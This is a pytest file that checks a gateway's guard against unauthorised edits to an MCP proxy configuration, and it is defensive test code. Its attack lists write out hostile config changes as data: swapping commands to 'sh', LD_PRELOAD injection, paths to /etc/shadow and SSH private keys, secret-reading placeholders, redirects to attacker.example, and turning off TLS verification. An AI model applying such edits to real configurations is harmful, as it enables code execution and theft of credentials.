"""What a stolen change token must not bring: code, files, variables and secrets."""

from __future__ import annotations

from pathlib import Path

import pytest

from gateway_core.generations.editing.concealed import FileText
from gateway_core.generations.editing.powers import forbidden

TEXT = """\
[mcp.proxy]
enable = true
state_dir = "state"

[mcp.proxy.log]
file = "gateway.log"

[[mcp.proxy.upstreams]]
name = "child"
transport = "stdio"
command = "server"
args = ["--port", "1"]
env = { MODE = "a", KEY = "${KEY}" }
cwd = "data"

[[mcp.proxy.upstreams]]
name = "web"
transport = "http"
url = "https://example.com/mcp"
headers = { Authorization = "Bearer ${TOKEN}", X-Literal = "a1b2c3d4e5f6" }
tls = { ca = "ca.pem" }

[[mcp.proxy.upstreams]]
name = "open"
transport = "http"
url = "http://localhost:1/mcp"

[[mcp.proxy.plugins]]
name = "audit_log"
file = "audit.jsonl"

[[mcp.proxy.plugins]]
name = "third_party"
command = "notify"
enabled = false
"""
CONTROL = "\n[mcp.proxy.control]\nallow_commands = true\n"
SENDING = """\
[mcp.proxy]
enable = true

[[mcp.proxy.upstreams]]
name = "tracker"
transport = "http"
url = "https://tracker.example/mcp"

[[mcp.proxy.upstreams]]
name = "wiki"
transport = "http"
url = "https://wiki.example/mcp"
headers = { X-Pin = "4711" }

[[mcp.proxy.profiles]]
name = "support"

[[mcp.proxy.profiles.overrides]]
tool = "tracker:search"
name = "search"
fixed = { token = "a1b2c3d4e5f6" }

[[mcp.proxy.profiles.overrides]]
tool = "tracker:create"
fixed = { project = "${PROJECT}" }

[[mcp.proxy.profiles.overrides]]
tool = "wiki:read"
fixed = { language = "english" }

[[mcp.proxy.plugins]]
name = "observe_traces"
endpoint = "https://collector.example/v1/traces"
headers = { Authorization = "Bearer a9b8c7d6e5f4" }
"""
"""Secrets of the file, and what says where they are sent."""
ELSEWHERE = [
    ('tool = "tracker:search"', 'tool = "wiki:search"'),
    ('tool = "tracker:create"', 'tool = "wiki:create"'),
    ('tool = "tracker:search"', 'tool = ["tracker:search"]'),
    ('name = "support"', 'name = "other"'),
    ("https://tracker.example/mcp", "https://attacker.example/mcp"),
    ('url = "https://tracker.example/mcp"', 'url = "https://tracker.example/mcp"\nproxy = "http://attacker.example"'),
    ("https://wiki.example/mcp", "https://attacker.example/mcp"),
    ("https://collector.example/v1/traces", "https://attacker.example/v1/traces"),
    ('endpoint = "https://collector.example/v1/traces"\n', ""),
]
STAYING = [
    ('name = "search"', 'name = "find"'),
    ('tool = "wiki:read"', 'tool = "other:read"'),
    ("a1b2c3d4e5f6", "another"),
    ('name = "wiki"', 'name = ["wiki"]'),
    ('https://wiki.example/mcp"\nheaders = { X-Pin = "4711" }', 'https://other.example/mcp"'),
    ('collector.example/v1/traces"\nheaders = { Authorization = "Bearer a9b8c7d6e5f4" }', 'other.example/"'),
    ("headers = { Authorization", "ratio = 0.5\nheaders = { Authorization"),
]
ATTACKS = [
    # code
    ('command = "server"', 'command = "sh"'),
    ('args = ["--port", "1"]', 'args = ["--port", "2"]'),
    ('args = ["--port", "1"]\n', ""),
    ('MODE = "a"', 'MODE = "b"'),
    ('MODE = "a"', 'MODE = "a", LD_PRELOAD = "x.so"'),
    ('cwd = "data"', 'cwd = "/tmp"'),
    ('transport = "http"\nurl = "http://localhost:1/mcp"', 'transport = "stdio"\ncommand = "sh"'),
    ('name = "third_party"\ncommand = "notify"', 'name = "third_party"\ncommand = "sh"'),
    ('name = "third_party"', 'name = "another_party"'),
    # files
    ('file = "gateway.log"', 'file = "/home/operator/.profile"'),
    ('state_dir = "state"', 'state_dir = "/tmp"'),
    ('file = "audit.jsonl"', 'file = "/home/operator/.profile"'),
    ('file = "audit.jsonl"', 'file = "audit.jsonl"\nkey_file = "/etc/shadow"'),
    ('ca = "ca.pem"', 'ca = "/tmp/ca.pem"'),
    ('ca = "ca.pem"', 'ca = "ca.pem", cert = "/etc/ssl/private/key.pem"'),
    ("enable = true", 'enable = true\ntls = { cert = "a.pem" }'),
    # variables and files through placeholders
    ("${TOKEN}", "${AWS_SECRET_ACCESS_KEY}"),
    ("${TOKEN}", "${file:/home/operator/.ssh/id_ed25519}"),
    ('url = "http://localhost:1/mcp"', 'url = "http://localhost:1/mcp"\nheaders = { X = "${TOKEN}" }'),
    ("enable = true", 'enable = true\ntimeout = "${file:/proc/1/stat}"'),
    ('name = "open"', 'name = "${TOKEN}"'),
    # secrets
    ('url = "https://example.com/mcp"', 'url = "https://attacker.example/mcp"'),
    ('url = "https://example.com/mcp"', 'url = "https://example.com/mcp"\nproxy = "http://attacker.example:1"'),
    ('tls = { ca = "ca.pem" }', "tls = { verify = false }"),
    ('tls = { ca = "ca.pem" }', 'auth = { token_url = "https://attacker.example", client_id = "a" }'),
    # the rule itself
    ("enable = true", "enable = true\ncontrol = { allow_commands = true }"),
]
HARMLESS = [
    ("enable = true", "enable = true\ntimeout = 5.0"),
    ('file = "gateway.log"\n', ""),
    ('file = "gateway.log"', 'file = "gateway.log"\nlevel = "DEBUG"'),
    ('cwd = "data"', 'cwd = "data"\nenabled = false'),
    ('name = "child"', 'name = "renamed"'),
    ('url = "http://localhost:1/mcp"', 'url = "http://localhost:2/mcp"\nheaders = { X-Own = "new-value" }'),
    ('name = "open"', 'name = "other"'),
    ("enabled = false", "enabled = true"),
    ('name = "third_party"\ncommand = "notify"\nenabled = false', 'name = "security_redact"\npatterns = ["a"]'),
    ('X-Literal = "a1b2c3d4e5f6"', 'X-Literal = "another"'),
    (
        '[[mcp.proxy.plugins]]\nname = "audit_log"',
        '[[mcp.proxy.plugins]]\nname = "routing_priority"\n[[mcp.proxy.plugins]]\nname = "audit_log"',
    ),
]


FORWARDING = """\
[mcp.proxy]
enable = true

[[mcp.proxy.upstreams]]
name = "tracker"
transport = "http"
url = "https://tracker.example/mcp"
forward = { X-Api-Key = "header:X-Tracker-Key", X-User = "principal.subject" }

[[mcp.proxy.upstreams]]
name = "desk"
transport = "http"
url = "https://desk.example/mcp"
auth = { grant = "token_exchange", token_url = "https://login.example/token", client_id = "gateway" }

[[mcp.proxy.upstreams]]
name = "files"
transport = "http"
url = "https://files.example/mcp"
auth = { grant = "authorization_code" }

[[mcp.proxy.upstreams]]
name = "open"
transport = "http"
url = "https://open.example/mcp"
"""
"""Upstreams that get what agents present for them."""
OF_AGENTS = [
    ("https://tracker.example", "https://attacker.example"),
    ('name = "tracker"', 'name = "other"'),
    ("header:X-Tracker-Key", "header:X-Wiki-Key"),
    ('open.example/mcp"', 'open.example/mcp"\nforward = { X-A = "header:X-Tracker-Key?" }'),
    ("https://desk.example", "https://attacker.example"),
    ("https://login.example", "https://attacker.example"),
    ('"authorization_code" }', '"authorization_code", token_url = "https://attacker.example/token" }'),
    ('"authorization_code" }', '"authorization_code" }\nproxy = "http://attacker.example"\ntls = { verify = false }'),
    ('name = "files"', 'name = "again"'),
    ('open.example/mcp"', 'open.example/mcp"\nauth = { grant = "token_exchange", client_id = "a" }'),
]


def of(text: str) -> FileText:
    return FileText(text, Path("f.toml"))


@pytest.mark.parametrize(("present", "wanted"), ATTACKS)
def test_what_gives_power_over_the_machine_is_not_written(present: str, wanted: str) -> None:
    assert TEXT.count(present) >= 1
    before, after = of(TEXT), of(TEXT.replace(present, wanted, 1))
    found = forbidden(before, after, allowed=False)
    assert found
    assert all(problem.line and problem.key for problem in found)
    assert not any("a1b2c3d4e5f6" in problem or "id_ed25519" in problem for problem in found)
    assert forbidden(before, after, allowed=True), "the file itself has to allow it, too"


@pytest.mark.parametrize(("present", "wanted"), ATTACKS[:-1])
def test_the_file_can_allow_it(present: str, wanted: str) -> None:
    before, after = of(TEXT + CONTROL), of(TEXT.replace(present, wanted, 1) + CONTROL)
    assert forbidden(before, after, allowed=True) == []
    assert forbidden(before, after, allowed=False), "what was allowed must be in force"


def test_what_allows_it_is_never_changed() -> None:
    for before, after in ((TEXT, TEXT + CONTROL), (TEXT + CONTROL, TEXT)):
        for allowed in (False, True):
            (problem,) = forbidden(of(before), of(after), allowed=allowed)
            assert "allow_commands" in problem


@pytest.mark.parametrize(("present", "wanted"), HARMLESS)
def test_everything_else_is_written(present: str, wanted: str) -> None:
    assert TEXT.count(present) >= 1
    assert forbidden(of(TEXT), of(TEXT.replace(present, wanted, 1)), allowed=False) == []


def test_a_second_server_with_the_same_command_runs_nothing_new() -> None:
    start = TEXT.index("[[mcp.proxy.upstreams]]")
    block = TEXT[start : TEXT.index("[[mcp.proxy.upstreams]]", start + 1)]
    copy = block.replace('"child"', '"copy"').replace('KEY = "${KEY}"', 'KEY = "${KEY}"')
    assert forbidden(of(TEXT), of(TEXT.replace(block, block + copy)), allowed=False) == []


@pytest.mark.parametrize(("present", "wanted"), ELSEWHERE)
def test_a_secret_is_sent_nowhere_else(present: str, wanted: str) -> None:
    assert SENDING.count(present) == 1
    found = forbidden(of(SENDING), of(SENDING.replace(present, wanted)), allowed=False)
    assert found
    assert all(problem.line and problem.key for problem in found)
    assert not any("a1b2c3d4e5f6" in problem or "a9b8c7d6e5f4" in problem for problem in found)


@pytest.mark.parametrize(("present", "wanted"), STAYING)
def test_what_sends_no_secret_elsewhere_is_written(present: str, wanted: str) -> None:
    assert SENDING.count(present) == 1
    assert forbidden(of(SENDING), of(SENDING.replace(present, wanted)), allowed=False) == []


def test_a_new_upstream_cannot_take_the_tool_that_gets_a_secret() -> None:
    new = '\n[[mcp.proxy.upstreams]]\nname = "new"\ntransport = "http"\nurl = "https://attacker.example/mcp"\n'
    assert forbidden(of(SENDING), of(SENDING + new), allowed=False) == []
    published = SENDING.replace("tracker:search", "tracker__search")
    (problem,) = forbidden(of(published), of(published + new), allowed=False)
    assert problem.key == "mcp.proxy.upstreams[2]"


@pytest.mark.parametrize(("present", "wanted"), OF_AGENTS)
def test_credentials_of_agents_are_sent_nowhere_else(present: str, wanted: str) -> None:
    assert FORWARDING.count(present) == 1
    found = forbidden(of(FORWARDING), of(FORWARDING.replace(present, wanted)), allowed=False)
    assert found
    assert all(problem.line and problem.key for problem in found)


@pytest.mark.parametrize(
    ("present", "wanted"),
    [
        ('X-Api-Key = "header:X-Tracker-Key", ', ""),
        ('X-Api-Key = "header', 'X-Key = "header'),
        ("https://open.example", "https://other.example"),
        ('open.example/mcp"', 'open.example/mcp"\nforward = { X-User = "principal.subject" }'),
        ('name = "desk"', 'name = "desk"\ntimeout = 5.0'),
    ],
)
def test_what_sends_no_credentials_elsewhere_is_written(present: str, wanted: str) -> None:
    assert FORWARDING.count(present) == 1
    assert forbidden(of(FORWARDING), of(FORWARDING.replace(present, wanted)), allowed=False) == []
